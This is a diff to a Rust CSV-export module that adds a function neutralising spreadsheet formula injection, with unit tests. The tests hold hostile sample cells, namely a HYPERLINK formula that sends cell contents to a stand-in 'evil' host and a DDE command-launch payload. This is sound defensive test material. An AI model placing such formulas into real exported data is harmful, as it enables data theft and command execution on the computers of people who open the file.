@@ -1,5 +1,8 @@
 //! CSV: one file for all tables, and the RFC 4180 quoting every CSV of
-//! knight-sweep uses (the tables here, `ksweep export`).
+//! knight-sweep uses (the tables here, `ksweep export`), with
+//! [`formula_safe`] for text a user or peer chose.
+
+use std::borrow::Cow;
 
 use super::layout::{Table, ROW_HEADER};
 use super::TableLayout;
@@ -67,5 +70,41 @@ pub fn field(field: &str) -> String {
         format!("\"{}\"", field.replace('"', "\"\""))
     } else {
         field.to_string()
+    }
+}
+
+/// The first characters that make a spreadsheet read a cell as a formula
+/// (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`, tab and carriage return.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text field that spreadsheets show as text: one beginning with a
+/// formula character gets a leading `'`, as OWASP advises, so a worker
+/// named `=HYPERLINK(...)` opens as its name, not as a link. For fields
+/// whose text a user or peer chooses; numbers (a negative one starts with
+/// `-`) are written as they are.
+pub fn formula_safe(field: &str) -> Cow<'_, str> {
+    if field.starts_with(FORMULA_STARTS) {
+        Cow::Owned(format!("'{field}"))
+    } else {
+        Cow::Borrowed(field)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn formula_starts_are_neutralised_and_other_text_kept() {
+        let attack = "=HYPERLINK(\"http://evil/\"&A1,\"x\")";
+        assert_eq!(formula_safe(attack), format!("'{attack}"));
+        for start in ["+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"] {
+            assert_eq!(formula_safe(start), format!("'{start}"), "{start:?}");
+        }
+        for plain in ["worker-1", "1=1", "", "a@b", " =1"] {
+            assert!(matches!(formula_safe(plain), Cow::Borrowed(t) if t == plain), "{plain:?}");
+        }
+        // Quoting still applies after: the quotes of the formula are doubled.
+        assert_eq!(record([formula_safe(attack).as_ref()]), "\"'=HYPERLINK(\"\"http://evil/\"\"&A1,\"\"x\"\")\"\n");
     }
 }
